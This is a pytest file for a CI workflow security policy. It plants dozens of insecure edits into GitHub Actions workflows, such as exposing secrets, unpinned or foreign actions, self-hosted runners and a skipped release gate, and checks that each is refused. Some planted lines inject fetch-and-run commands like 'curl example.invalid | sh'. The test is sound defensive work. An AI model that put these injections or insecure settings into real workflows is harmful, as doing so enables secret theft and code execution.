"""Nothing of a stranger's crosses a trust boundary of the workflows; each way in which it could is planted, and refused."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from ci import matrix
from ci.paths import ROOT
from scripts import policy, trust

WORKFLOWS = ROOT / ".github" / "workflows"
CHECKOUT = "      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n"
KEEP = "      - uses: actions/upload-artifact@043fb46d1a93c77aae656e7c1c64a875d1fc6a0a # v7.0.1\n"
GATE = '      - run: python3 noxfile.py -s ci -- gate --native --version "$TAG"\n'
LINT = "      - run: python3 noxfile.py -s lint\n"
PUBLISH = '-s publish -- --version "$TAG" --index "$UPLOAD_URL" --check-url "$SIMPLE_URL"\n'

PLANTED: dict[str, tuple[str, str, str, str]] = {
    # A stranger's code with a token of ours.
    "pull requests with a token": ("ci.yml", "  pull_request:\n", "  pull_request_target:\n", "ci.yml: on"),
    "a run after a stranger's run": ("ci.yml", "  pull_request:\n", "  workflow_run: {workflows: [ci]}\n", "ci.yml: on"),
    "a comment that starts a release": ("release.yml", "on:\n", "on:\n  issue_comment:\n", "release.yml: on"),
    "a release by hand": ("release.yml", "on:\n", "on:\n  workflow_dispatch:\n", "release.yml: on"),
    "a release of a pull request": ("release.yml", "on:\n", "on:\n  pull_request:\n", "release.yml: on"),
    "a release of a branch": ("release.yml", 'tags: ["v*"]', 'branches: ["v*"]', "release.yml: on"),
    "a release of any tag": ("release.yml", 'tags: ["v*"]', 'tags: ["*"]', "release.yml: on"),
    "checks of a tag": ("weekly.yml", "on:\n", 'on:\n  push: {tags: ["v*"]}\n', "weekly.yml: on: a tag"),
    "identities for pull requests": (
        "ci.yml",
        "      contents: read # checkout\n",
        "      contents: read\n      id-token: write\n",
        "ci.yml: lint: permissions",
    ),
    "permissions on top": ("ci.yml", "permissions: {}\n", "permissions: read-all\n", "ci.yml: permissions on top"),
    "secrets for a called workflow": (
        "ci.yml",
        "    uses: ./.github/workflows/wheels.yml\n",
        "    uses: ./.github/workflows/wheels.yml\n    secrets: inherit\n",
        "ci.yml: a secret",
    ),
    "a secret in a variable": (
        "wheels.yml",
        "      LANE: ${{ matrix.lane }}\n",
        "      LANE: ${{ secrets.TOKEN }}\n",
        "wheels.yml: a secret",
    ),
    "all secrets": ("release.yml", "TAG: ${{ github.ref_name }}", "TAG: ${{ toJSON(secrets) }}", "release.yml: a secret"),
    "a token for tests": (
        "ci.yml",
        "    timeout-minutes: 30\n",
        "    timeout-minutes: 30\n    env:\n      GH_TOKEN: ${{ github.token }}\n",
        "ci.yml: lint: a token",
    ),
    "a token left in the checkout": ("ci.yml", "          persist-credentials: false\n", "", "ci.yml: lint: checkout"),
    # What a release reads.
    "a cache of the setup": (
        "wheels.yml",
        "          python-version:",
        "          cache: pip\n          python-version:",
        "told actions/setup-python",
    ),
    "a cache restored": (
        "release.yml",
        CHECKOUT,
        f"      - uses: actions/cache@{'a' * 40} # v4.0.0\n{CHECKOUT}",
        "release.yml: gate: an action",
    ),
    "a cache kept by pull requests": (
        "ci.yml",
        CHECKOUT,
        f"      - uses: actions/cache/save@{'a' * 40} # v4.0.0\n{CHECKOUT}",
        "ci.yml: lint: an action",
    ),
    "artifacts of another run": (
        "release.yml",
        "          pattern: dist-*\n",
        "          pattern: dist-*\n          run-id: 1\n",
        "release.yml: gate: told actions/download-artifact",
    ),
    "artifacts of another repository": (
        "release.yml",
        "          name: release\n          path: dist\n",
        "          name: release\n          path: dist\n          repository: stranger/fork\n",
        "told actions/",
    ),
    "what the gate did not see": (
        "release.yml",
        "          name: release\n          path: dist\n      - uses: actions/attest",
        "          pattern: dist-*\n          path: dist\n      - uses: actions/attest",
        "release.yml: attest: fetches",
    ),
    "a build job that keeps a release": (
        "wheels.yml",
        "          name: dist-sdist\n",
        "          name: release\n",
        "wheels.yml: sdist: keeps",
    ),
    "a check that keeps artifacts": (
        "ci.yml",
        LINT,
        f"{LINT}{KEEP}        with: {{name: dist-x, path: dist}}\n",
        "ci.yml: lint: keeps",
    ),
    "a release kept after a refusal": (
        "release.yml",
        "v7.0.1\n        with:\n          name: release\n",
        "v7.0.1\n        if: always()\n        with:\n          name: release\n",
        "release.yml: gate: a condition",
    ),
    "another commit than the tag's": (
        "release.yml",
        "    uses: ./.github/workflows/wheels.yml\n",
        "    uses: ./.github/workflows/wheels.yml\n    with: {ref: main}\n",
        "release.yml: wheels: with",
    ),
    "a checkout of a branch": (
        "release.yml",
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          ref: main\n",
        "release.yml: gate: checkout",
    ),
    "a checkout of a fork": (
        "release.yml",
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          repository: stranger/fork\n",
        "told actions/checkout",
    ),
    "history for a check": (
        "ci.yml",
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          fetch-depth: 0\n",
        "ci.yml: lint: history",
    ),
    "history for a release": (
        "release.yml",
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          fetch-depth: 2\n",
        "release.yml: gate: history",
    ),
    "history that ends": ("weekly.yml", "          fetch-depth: 0 ", "          fetch-depth: 9 ", "crates: history"),
    "another workflow": (
        "release.yml",
        "    uses: ./.github/workflows/wheels.yml\n",
        "    uses: ./.github/workflows/weekly.yml\n",
        "release.yml: wheels: calls",
    ),
    # Code of others.
    "an action by its tag": ("release.yml", CHECKOUT, "      - uses: actions/checkout@v7\n", "an action"),
    "an action at a stranger's commit": (
        "release.yml",
        CHECKOUT,
        f"      - uses: actions/checkout@{'b' * 40} # v7.0.1\n",
        "release.yml: gate: an action",
    ),
    "an action under another version": ("release.yml", "90b1 # v7.0.1", "90b1 # v6.0.0", "# v6.0.0"),
    "an action with its key in quotes": (
        "release.yml",
        CHECKOUT,
        '      - "uses": stranger/checkout@main\n',
        "release.yml: gate: an action",
    ),
    "an action of a stranger": (
        "release.yml",
        CHECKOUT,
        f"      - uses: stranger/checkout@{'b' * 40} # v7.0.1\n",
        "an action",
    ),
    "a container": (
        "release.yml",
        "    environment: pypi",
        "    container: stranger/image\n    environment: pypi",
        "publish: a key",
    ),
    "a service": (
        "wheels.yml",
        "    timeout-minutes: 90\n",
        "    timeout-minutes: 90\n    services: {x: {image: x}}\n",
        "build: a key",
    ),
    "a machine of one's own": ("release.yml", "    runs-on: ubuntu-24.04\n", "    runs-on: self-hosted\n", "gate: runs-on"),
    # Words of others.
    "a title in a command": (
        "ci.yml",
        LINT,
        "      - run: python3 noxfile.py -s lint -- ${{ github.event.pull_request.title }}\n",
        "an expression",
    ),
    "a branch's name in a variable": (
        "ci.yml",
        "  group: ci-${{ github.ref }}\n",
        "  group: ci-${{ github.head_ref }}\n",
        "ci.yml: an expression",
    ),
    "a tag in a command": (
        "release.yml",
        '--version "$TAG"',
        "--version ${{ github.ref_name }}",
        "release.yml: gate: run",
    ),
    "a second command": ("ci.yml", LINT, f"{LINT.rstrip()}; curl example.invalid | sh\n", "ci.yml: lint: run"),
    "a command in a command": ("ci.yml", LINT, f"{LINT.rstrip()} -- $(curl example.invalid)\n", "ci.yml: lint: run"),
    "a variable that a shell takes apart": ("release.yml", '--tag "$TAG"', "--tag $TAG", "release.yml: gate: run"),
    "a failure that is none": ("wheels.yml", "-s ci -- audit\n", "-s ci -- audit || true\n", "wheels.yml: build: run"),
    "another shell": ("ci.yml", LINT, f"{LINT}        shell: bash -c 'curl x | sh; {{0}}'\n", "a key of a step"),
    "another shell for all": ("ci.yml", "jobs:\n", "defaults: {run: {shell: x}}\njobs:\n", "ci.yml: a key on top"),
    "another folder": ("ci.yml", LINT, f"{LINT}        working-directory: /tmp\n", "a key of a step"),
    "a variable that changes Python": (
        "release.yml",
        "      TAG: ${{ github.ref_name }}\n",
        "      TAG: ${{ github.ref_name }}\n      PYTHONPATH: /tmp\n",
        "release.yml: gate: env",
    ),
    # The decision.
    "no gate": ("release.yml", GATE, "", "release.yml: gate: steps"),
    "a gate that takes less": ("release.yml", "gate --native --version", "gate --version", "release.yml: gate: steps"),
    "a gate of some platforms": (
        "release.yml",
        'gate --native --version "$TAG"',
        'gate --native --version "$TAG" --platform linux-x86_64',
        "gate: steps",
    ),
    "a gate that may be static": (
        "release.yml",
        'gate --native --version "$TAG"',
        'gate --native --version "$TAG" --accept macos-arm64=static',
        "gate: steps",
    ),
    "a report in place of the gate": (
        "release.yml",
        "ci -- gate --native",
        "ci -- report --native",
        "release.yml: gate: steps",
    ),
    "a step more in the publisher": (
        "release.yml",
        f"      - run: python3 noxfile.py {PUBLISH}",
        f"      - run: python3 noxfile.py -s rust\n      - run: python3 noxfile.py {PUBLISH}",
        "release.yml: publish: steps",
    ),
    "another index": ("release.yml", '"$UPLOAD_URL"', "https://example.invalid/", "release.yml: publish"),
    "no reviewers": ("release.yml", "    environment: pypi", "    #", "release.yml: publish: environment"),
    "another environment": ("release.yml", "environment: pypi", "environment: test", "release.yml: publish: environment"),
    "reviewers' environment for a check": (
        "ci.yml",
        "    timeout-minutes: 30\n",
        "    timeout-minutes: 30\n    environment: pypi\n",
        "ci.yml: lint: environment",
    ),
    "publishing without the gate": (
        "release.yml",
        "    needs: [gate, attest]\n",
        "    needs: wheels\n",
        "release.yml: publish: needs",
    ),
    "publishing after a failure": (
        "release.yml",
        "    environment: pypi",
        "    if: always()\n    environment: pypi",
        "release.yml: publish: if",
    ),
    "two releases at once": ("release.yml", "  cancel-in-progress: false\n", "  cancel-in-progress: true\n", "concurrency"),
    "releases side by side": ("release.yml", "  group: release ", "  group: x ", "release.yml: concurrency"),
    # What reads differently than it looks.
    "a key twice": (
        "release.yml",
        "permissions: {}\n",
        "permissions: {}\npermissions: write-all\n",
        "release.yml: does not read",
    ),
    "an alias": ("release.yml", "permissions: {}\n", "permissions: &all {}\nenv: *all\n", "release.yml: does not read"),
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return Path(shutil.copytree(WORKFLOWS, tmp_path / "workflows"))


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_is_refused(what: str, folder: Path) -> None:
    name, old, new, message = PLANTED[what]
    text = (folder / name).read_text(encoding="utf-8")
    assert old in text
    (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")
    found = list(policy.problems(folder))
    assert any(message in problem.message for problem in found), [problem.message for problem in found]
    assert all(problem.expected and problem.found and problem.todo for problem in found)


def test_there_are_enough() -> None:
    assert len({*PLANTED.values()}) >= 60
    print(f"\n{len(PLANTED)} planted")


def workflows() -> dict[str, dict[Any, Any]]:
    return {path.name: trust.load(path.read_text(encoding="utf-8")) for path in sorted(WORKFLOWS.iterdir())}


def test_a_pull_request_reaches_nothing() -> None:
    """All that it starts, called workflows included: no write, identity, secret, variable, cache or environment."""
    started = {name for name, workflow in workflows().items() if "pull_request" in workflow["on"]}
    assert started == {"ci.yml"}
    reached = started | {
        Path(job["uses"]).name for name in started for job in workflows()[name]["jobs"].values() if "uses" in job
    }
    assert reached == {"ci.yml", "wheels.yml"}
    for name in reached:
        text = re.sub(r"(?m)#.*$", "", (WORKFLOWS / name).read_text(encoding="utf-8"))
        for word in ("secrets", "vars.", "id-token", "write", "cache", "environment:", "github.token"):
            assert word not in text, f"{name}: {word}"
        for job in workflows()[name]["jobs"].values():
            assert job["permissions"] in ({}, {"contents": "read"})


def test_a_release_reads_nothing_of_another_run() -> None:
    """No cache and no artifact but those of its own run, in release.yml and in what it calls."""
    for name in ("release.yml", "wheels.yml"):
        for job in workflows()[name]["jobs"].values():
            for step in job.get("steps", ()):
                action = step.get("uses", "").split("@")[0]
                assert not action or action in trust.ACTIONS
                assert set(step.get("with") or {}) <= trust.OPTIONS.get(action, set())


def test_only_these_jobs_have_an_identity() -> None:
    given = {
        (name, job)
        for name, workflow in workflows().items()
        for job, body in workflow["jobs"].items()
        if (body.get("permissions") or {}).get("id-token")
    }
    assert given == {("release.yml", "attest"), ("release.yml", "publish")}
    # The one with the index's trust runs behind reviewers; the other runs none of our code.
    assert workflows()["release.yml"]["jobs"]["publish"]["environment"] == "pypi"
    assert not any("run" in step for step in workflows()["release.yml"]["jobs"]["attest"]["steps"])


def test_the_runners_of_the_matrix_are_hosted() -> None:
    assert {platform.runner for platform in matrix.load().platforms} <= trust.RUNNERS


def test_every_action_that_is_listed_is_used() -> None:
    text = "".join(path.read_text(encoding="utf-8") for path in WORKFLOWS.iterdir())
    for action, (commit, version) in trust.ACTIONS.items():
        assert f"{action}@{commit} # {version}" in text


def test_the_threat_model_names_every_boundary() -> None:
    """docs/threat-model.md is written of this code: what it calls by name is there."""
    text = (ROOT / "docs" / "threat-model.md").read_text(encoding="utf-8")
    for name in [*workflows(), *trust.ACTIONS, "scripts/trust.py", "scripts/policy.py", *("attest", "publish", "announce")]:
        assert name in text, name
    for path in re.findall(r"\]\(\.\./([^)#]+)", text):
        assert (ROOT / path).exists(), path
